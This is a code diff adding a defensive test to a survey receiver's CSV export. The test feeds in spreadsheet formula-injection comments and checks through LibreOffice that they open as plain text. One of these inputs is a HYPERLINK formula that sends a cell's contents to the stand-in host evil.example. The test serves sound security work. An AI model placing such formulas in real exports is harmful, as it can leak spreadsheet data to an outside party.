@@ -4,6 +4,10 @@
 // exporting from a real receiver over HTTP and reading the file two ways: with a strict RFC 4180
 // parser (csv-parse), and line by line, as a careless importer would.
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { test } from 'node:test';
 import { parse } from 'csv-parse/sync';
 import { CSV_COLUMNS, neutraliseFormula } from 'welcomed-receiver';
@@ -108,4 +112,75 @@ test('neutraliseFormula leaves ordinary text alone and marks every line that sta
   assert.equal(neutraliseFormula('\uFF1D1'), "'\uFF1D1");
   assert.equal(neutraliseFormula(' \u200B"@x'), "' \u200B\"@x");
   assert.equal(neutraliseFormula('\tx'), "'\tx");
+});
+
+/** LibreOffice's command line, when installed (`apt-get install libreoffice-calc-nogui`). */
+const SOFFICE = spawnSync('soffice', ['--version'], { encoding: 'utf8' }).status === 0 ? 'soffice' : null;
+
+/**
+ * The rows of the first sheet of a flat ODS file, each a list of its cells: the cell's text (its
+ * paragraphs joined by line breaks) and whether it holds a formula.
+ * @param {string} xml
+ */
+function sheetRows(xml) {
+  const unescape = (/** @type {string} */ text) =>
+    text
+      .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count) => ' '.repeat(Number(count ?? 1)))
+      .replace(/<text:tab\/>/g, '\t')
+      .replace(/<[^>]+>/g, '')
+      .replace(/&lt;/g, '<')
+      .replace(/&gt;/g, '>')
+      .replace(/&quot;/g, '"')
+      .replace(/&apos;/g, "'")
+      .replace(/&amp;/g, '&');
+  return [...xml.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
+    [...row.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(([, attributes, body = '']) => {
+      const cell = {
+        text: [...body.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map(([, paragraph]) => unescape(paragraph)).join('\n'),
+        formula: /table:formula=/.test(attributes),
+      };
+      // Empty cells in a row are written once with a count (the last runs to the sheet's end).
+      const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
+      return Array.from({ length: Math.min(repeated, 64) }, () => cell);
+    }),
+  );
+}
+
+test('LibreOffice Calc opens the export with each hostile comment in one cell of text, evaluating no formula', { skip: SOFFICE ? false : 'LibreOffice is not installed' }, async (t) => {
+  const { url } = await startTestReceiver(t, { listen: true });
+  const comments = [
+    'Much better than before\n=1+1',
+    'Much better than before\n=HYPERLINK("https://evil.example/?leak="&L2,"Click for a refund")',
+    '\uFF1D1+1 full width',
+    'First line\r\n+SUM(2,3)\n-4+5\n@SUM(1,1)',
+    'An ordinary comment,\nover two lines.',
+  ];
+  for (const comment of comments) {
+    const response = makeResponse({ comment, panel: { name: 'Bob\r=1+1', consent: true } });
+    const reply = await fetch(`${url}/api/responses`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(response) });
+    assert.ok(reply.ok);
+  }
+  const csv = await (await fetch(`${url}/api/responses?format=csv`, { headers: AUTH })).text();
+
+  const folder = mkdtempSync(join(tmpdir(), 'welcomed-calc-'));
+  t.after(() => rmSync(folder, { recursive: true, force: true }));
+  writeFileSync(join(folder, 'export.csv'), csv);
+  // Comma, double quote, UTF-8, from line 1, en-GB, and "Evaluate formulas" on: the worst case.
+  const filter = 'CSV:44,34,76,1,,2057,false,false,true,false,false,0,true';
+  const converted = spawnSync(
+    /** @type {string} */ (SOFFICE),
+    ['--headless', '--norestore', `-env:UserInstallation=file://${folder}/profile`, `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, join(folder, 'export.csv')],
+    { encoding: 'utf8', timeout: 120_000 },
+  );
+  assert.equal(converted.status, 0, converted.stderr);
+  const rows = sheetRows(readFileSync(join(folder, 'export.fods'), 'utf8')).filter((row) => row.some((cell) => cell.text));
+  assert.equal(rows.length, comments.length + 1, 'a header and one row per response: no comment started a row');
+  assert.ok(rows.every((row) => row.every((cell) => !cell.formula)), 'no cell holds a formula');
+  const column = (/** @type {string} */ name) => rows[0].findIndex((cell) => cell.text === name);
+  const shown = rows.slice(1).map((row) => row[column('comment')].text);
+  for (const comment of comments) {
+    // Line breaks as the cell has them, and the apostrophes the export put before formulas.
+    assert.ok(shown.includes(neutraliseFormula(comment.replaceAll('\r\n', '\n'))), `${JSON.stringify(comment)} in ${JSON.stringify(shown)}`);
+  }
+  for (const row of rows.slice(1)) assert.equal(row[column('panel.name')].text, "Bob\n'=1+1");
 });
